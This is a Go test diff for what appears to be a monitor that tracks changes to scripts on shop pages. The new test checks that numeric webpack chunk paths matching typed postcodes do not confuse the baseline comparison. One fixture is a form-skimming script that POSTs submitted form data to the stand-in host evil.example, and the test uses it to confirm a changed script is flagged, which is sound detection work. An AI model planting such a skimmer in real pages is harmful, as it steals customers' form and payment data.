@@ -204,3 +204,43 @@ func FuzzScriptShape(f *testing.F) {
 		}
 	})
 }
+
+// TestDiffIsStableWhenAPathMatchesTypedInputByChance covers the other side
+// of the rule: a lazily loaded chunk with a numeric name (webpack's
+// /static/js/185.js) matches a typed postcode prefix in about one check in a
+// hundred. Whether it matched when the baseline was taken or matches now, it
+// must read as the same script, and a new file on such a path must still be
+// judged on its content.
+func TestDiffIsStableWhenAPathMatchesTypedInputByChance(t *testing.T) {
+	const chunk = `(self.webpackChunk=self.webpackChunk||[]).push([[185],{185:function(e,t,n){n.r(t);t.validate=function(v){return /^\d{7}$/.test(v)}}}]);`
+	const otherChunk = `(self.webpackChunk=self.webpackChunk||[]).push([[186],{186:function(e,t,n){n.r(t);document.forms[0].addEventListener("submit",function(){fetch("https://evil.example/c",{method:"POST",body:new FormData(this)})})}}]);`
+	url := "https://shop.example/static/js/185.js"
+	tests := []struct {
+		name          string
+		basePostcode  string
+		checkPostcode string
+		checkURL      string
+		checkSrc      string
+		want          []string
+	}{
+		{"a chunk that matched the typed prefix at baseline time is known when it does not now",
+			"185-0001", "456-0001", url, chunk, nil},
+		{"a chunk approved by its path is known when it matches the typed prefix now",
+			"456-0001", "185-1234", url, chunk, nil},
+		{"another file on a path approved by chance is judged on its content",
+			"185-0001", "456-0001", "https://shop.example/static/js/186.js", otherChunk,
+			[]string{ChangeScriptChanged + " https://shop.example/static/js/" + InputPlaceholder + ".js"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			base := FromObservation(probed(typed(tt.basePostcode), lookupScript(url, chunk, true)))
+			var got []string
+			for _, c := range Diff(base, probed(typed(tt.checkPostcode), lookupScript(tt.checkURL, tt.checkSrc, true))) {
+				got = append(got, c.Kind+" "+c.Subject)
+			}
+			if !slices.Equal(got, tt.want) {
+				t.Fatalf("changes %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
